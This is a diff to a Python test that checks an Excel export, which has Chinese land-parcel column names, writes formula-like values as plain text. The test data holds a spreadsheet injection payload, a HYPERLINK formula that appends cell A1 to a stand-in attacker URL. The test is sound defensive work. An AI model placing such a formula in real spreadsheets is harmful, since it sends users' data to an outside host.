@@ -387,8 +387,8 @@ def test_export_excel_writes_formula_text_as_text(target, tmp_path):
     header = [c.value for c in listing[1]]
     row = {h: c for h, c in zip(header, listing[2], strict=True)}
     assert (row["宗地编号"].data_type, row["宗地编号"].value) == ("s", "=1+1")
-    assert (row["原因"].data_type, row["原因"].value) == ("s", "@SUM(A1)")
-    assert (row["enterprise"].data_type, row["enterprise"].value) == (
+    assert (row["认定原因"].data_type, row["认定原因"].value) == ("s", "@SUM(A1)")
+    assert (row["企业名称"].data_type, row["企业名称"].value) == (
         "s", '=HYPERLINK("http://evil.example/?"&A1,"x")',
     )  # fmt: skip
     syncs = book["同步记录"]
@@ -467,8 +467,8 @@ def _round_trip_property(target: str, tmp_path: Path, max_examples: int) -> None
         header = [c.value for c in listing[1]]
         rows = [dict(zip(header, r, strict=True)) for r in listing.iter_rows(min_row=2)]
         row = next(r for r in rows if r["候选编号"].value == excel_form(cid))
-        for label, value in (("宗地编号", pid), ("集聚区编号", zone), ("原因", reason),
-                             ("enterprise", note), ("状态变更人", by_status)):  # fmt: skip
+        for label, value in (("宗地编号", pid), ("集聚区编号", zone), ("认定原因", reason),
+                             ("企业名称", note), ("状态变更人", by_status)):  # fmt: skip
             assert (row[label].data_type, row[label].value) == ("s", excel_form(value))
         kind = "gpkg" if target.endswith(".gpkg") else "postgis"
         SINK_COUNTS[kind] = SINK_COUNTS.get(kind, 0) + 1
